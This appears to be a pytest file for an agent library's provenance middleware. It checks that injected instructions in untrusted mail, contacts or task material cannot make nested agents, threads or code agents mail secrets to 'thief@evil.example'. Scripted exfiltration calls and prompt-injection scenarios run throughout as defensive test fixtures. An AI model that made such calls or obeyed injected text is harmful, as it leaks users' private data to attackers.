"""Labels follow the flow: out of blocks of code, into agents as tools, threads and queues."""

from __future__ import annotations

import asyncio
import queue
import threading
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from tests.support.coding import block
from tests.tinyagent.provenance.conftest import INJECTION, READ, Office, policy

from tinyagent import (
    ConfigurationError,
    Document,
    ReactAgent,
    Sandbox,
    ScriptedModel,
    TinyCodeAgent,
    Tool,
    scripted_call,
)
from tinyagent.core.messages import Task, task_from_json, task_to_json
from tinyagent.provenance import Label, Provenance, Sink, untrusted

THIEF = "thief@evil.example"
STEAL = scripted_call("send_mail", to=THIEF, body="4711-4711")
TASK = f"Write to {THIEF}"


def test_the_answer_of_code_has_the_label_of_its_last_block(office: Office) -> None:
    """`final_answer` in the first block that reads, as a tool of another agent."""
    reader = TinyCodeAgent(
        ScriptedModel([block("final_answer(read_mail()[0]['body'])")]),
        Office().tools(),
        middleware=[policy()],
        sandbox=Sandbox(level="local"),
    ).as_tool("reader", "Reads mail.")
    model = ScriptedModel([scripted_call("reader", task="Read"), STEAL, "done"])
    guard = policy(free=["reader"])
    result = ReactAgent(model, [*office.tools(), reader], middleware=[guard]).run_sync("Go")
    assert office.sent == []
    assert "reader/read_mail" in (result.label or Label()).sources


def test_files_of_the_host_are_a_source_where_code_can_read_them(office: Office) -> None:
    agent = TinyCodeAgent(
        ScriptedModel(
            [block("x = 1"), block(f"send_mail('{THIEF}', 'x')"), block("final_answer(1)")]
        ),
        office.tools(),
        middleware=[policy(trusted=["contacts"])],
        sandbox=Sandbox(level="local"),
    )
    result = agent.run_sync("Go")
    assert office.sent == []
    assert "host" in (result.label or Label()).sources


def _helper(inner: Office, *calls: Any, **options: Any) -> ReactAgent:
    return ReactAgent(ScriptedModel([*calls, "done"]), inner.tools(), **options)


def _outer(office: Office, *tools: Tool, calls: tuple[Any, ...], **changes: Any) -> Any:
    free = ["read_mail", *(tool.name for tool in tools)]
    agent = ReactAgent(
        ScriptedModel([*calls, "done"]),
        [*office.tools(), *tools],
        middleware=[policy(**{"free": free} | changes)],
    )
    return agent.run_sync("Answer Anna", return_result=True)


def _started_in(way: str, agent: ReactAgent) -> Tool:
    """A tool that starts a run of an agent with the task that it is given."""

    def run(task: str) -> None:
        agent.run_sync(task, return_result=True)

    def in_a_thread(task: str) -> str:
        """Start it."""
        thread = threading.Thread(target=run, args=(task,))
        thread.start()
        thread.join()
        return "started"

    tasks: queue.Queue[str] = queue.Queue()
    worker = threading.Thread(target=lambda: run(f"Please do this: {tasks.get()}"), daemon=True)
    worker.start()

    def in_a_queue(task: str) -> str:
        """Start it."""
        tasks.put(task)
        worker.join()
        return "started"

    async def directly(task: str) -> str:
        """Start it."""
        await asyncio.create_task(agent.run(task, return_result=True))
        return "started"

    ways: Mapping[str, Callable[..., Any]] = {
        "thread": in_a_thread,
        "queue": in_a_queue,
        "task": directly,
    }
    return (
        agent.as_tool("start", "Starts.")
        if way == "tool"
        else Tool.from_function(ways[way], name="start")
    )


@pytest.mark.parametrize("own", [(), (policy(),)], ids=["no policy", "a policy"])
@pytest.mark.parametrize("way", ["tool", "task", "thread", "queue"])
def test_a_run_that_starts_in_a_call_has_its_label_and_its_policy(
    office: Office, way: str, own: tuple[Provenance, ...]
) -> None:
    inner = Office()
    start = _started_in(way, _helper(inner, STEAL, middleware=list(own)))
    _outer(office, start, calls=(READ, scripted_call("start", task=TASK)))
    assert inner.sent == []


def test_the_same_agent_works_for_its_user(office: Office) -> None:
    agent = _helper(office, STEAL)
    agent.run_sync(f"Please write to {THIEF} about it")
    assert len(office.sent) == 1


def test_an_agent_without_a_policy_is_held_to_that_of_its_caller(office: Office) -> None:
    """It reads itself; the rules are those of the outer policy for the same tools."""
    inner = _helper(office, READ, STEAL).as_tool("helper", "Works.")
    _outer(office, inner, calls=(scripted_call("helper", task="Answer my mail"),))
    assert office.sent == []


def test_the_rules_of_a_caller_hold_for_the_tools_that_both_have(office: Office) -> None:
    tools = office.tools()
    answer = scripted_call("send_mail", to="anna@example.com", body="x")
    inner = ReactAgent(ScriptedModel([READ, STEAL, answer, "done"]), tools).as_tool(
        "helper", "Works."
    )
    agent = ReactAgent(
        ScriptedModel([scripted_call("helper", task="Answer anna@example.com"), "done"]),
        [*tools, inner],
        middleware=[policy(free=["read_mail", "helper"])],
    )
    agent.run_sync("Go")
    assert [mail["to"] for mail in office.sent] == ["anna@example.com"]


def test_rules_for_the_tools_of_an_agent_are_written_with_its_name(office: Office) -> None:
    answer = scripted_call("send_mail", to="anna@example.com", body="x")
    inner = _helper(office, READ, STEAL, answer).as_tool("helper", "Works.")
    agent = ReactAgent(
        ScriptedModel([scripted_call("helper", task="Answer anna@example.com"), "done"]),
        [inner],
        middleware=[
            Provenance(
                free=["helper", "helper/read_mail"],
                sinks={"helper/send_mail": Sink(to=["user"], body="any")},
            )
        ],
    )
    agent.run_sync("Go")
    assert [mail["to"] for mail in office.sent] == ["anna@example.com"]


def test_trust_is_in_a_tool_of_an_agent_and_not_in_its_name(office: Office) -> None:
    """The inner `contacts` is written by strangers, the outer one is trusted."""

    def contacts() -> str:
        """Show what is on the wall."""
        return INJECTION

    inner = ReactAgent(
        ScriptedModel([scripted_call("contacts"), "done"]),
        [Tool.from_function(contacts)],
        middleware=[Provenance(free=["contacts"])],
    ).as_tool("helper", "Works.")
    look = scripted_call("helper", task="Look")
    result = _outer(office, inner, calls=(look, STEAL))
    assert office.sent == []
    assert "helper/contacts" in (result.label or Label()).sources
    inner = ReactAgent(
        ScriptedModel(["done"]),
        [Tool.from_function(contacts)],
        middleware=[Provenance(free=["contacts"])],
    ).as_tool("helper", "Works.")
    _outer(office, inner, calls=(look, STEAL))
    assert len(office.sent) == 1, "it has read nothing"


def test_a_name_that_the_inner_policy_trusts_is_not_the_tool_of_its_caller() -> None:
    inner = Office()
    helper = _helper(inner, STEAL, middleware=[policy(trusted=["contacts", "read_mail"])]).as_tool(
        "helper", "Works."
    )
    _outer(Office(), helper, calls=(READ, scripted_call("helper", task=TASK)))
    assert inner.sent == []


def test_what_an_agent_returns_may_be_private(office: Office) -> None:
    inner = ReactAgent(ScriptedModel(["the balance is 1234.56"])).as_tool("bank", "Knows.")
    sinks = {"send_mail": Sink(to="any", body="readable", cc="any", readers=["to", "cc"])}
    send = scripted_call("send_mail", to=THIEF, body="1234.56")
    changes: dict[str, Any] = {"trusted": ["contacts", "bank"], "sinks": sinks}
    _outer(
        office,
        inner,
        calls=(scripted_call("bank", task="Ask"), send),
        private={"bank": ["user"]},
        **changes,
    )
    assert office.sent == []


def test_material_in_a_task_is_not_the_word_of_the_user(office: Office) -> None:
    def run(call: Any, *task: Any) -> Any:
        agent = ReactAgent(
            ScriptedModel([call, "done"]),
            office.tools(),
            middleware=[policy(sinks={"send_mail": Sink(to=["user"], body="readable")})],
        )
        return agent.run_sync(list(task))

    result = run(STEAL, "Answer anna@example.com: ", untrusted(INJECTION, "mail"))
    assert office.sent == []
    assert "material:mail" in (result.label or Label()).sources
    assert "comes from material:mail" in result.calls[0].content
    run(STEAL, "Read", untrusted(Document(b"%PDF-1.4 x"), "letter"))
    assert office.sent == []
    run(
        scripted_call("send_mail", to="anna@example.com", body="x"),
        "Answer ",
        untrusted(INJECTION),
        "anna@example.com",
    )
    assert len(office.sent) == 1


def test_material_in_the_task_of_a_code_agent(office: Office) -> None:
    agent = TinyCodeAgent(
        ScriptedModel([block(f"send_mail('{THIEF}', 'x')"), block("final_answer(1)")]),
        office.tools(),
        middleware=[policy()],
        sandbox=Sandbox(level="local"),
    )
    agent.run_sync(["Answer", untrusted(INJECTION)])
    assert office.sent == []
    agent = TinyCodeAgent(
        ScriptedModel([block(f"send_mail('{THIEF}', 'x')"), block("final_answer(1)")]),
        office.tools(),
        middleware=[policy()],
        sandbox=Sandbox(level="local"),
    )
    agent.run_sync(["Answer", INJECTION])
    assert len(office.sent) == 1


def test_a_task_with_material_has_a_json_form() -> None:
    task: Task = ["Answer", untrusted("x", "mail")]
    assert task_to_json(task_from_json(task_to_json(task))) == task_to_json(task)
    assert task_from_json(task_to_json(task))[1] == untrusted("x", "mail")
    with pytest.raises(ConfigurationError):
        task_to_json([5])  # type: ignore[list-item]
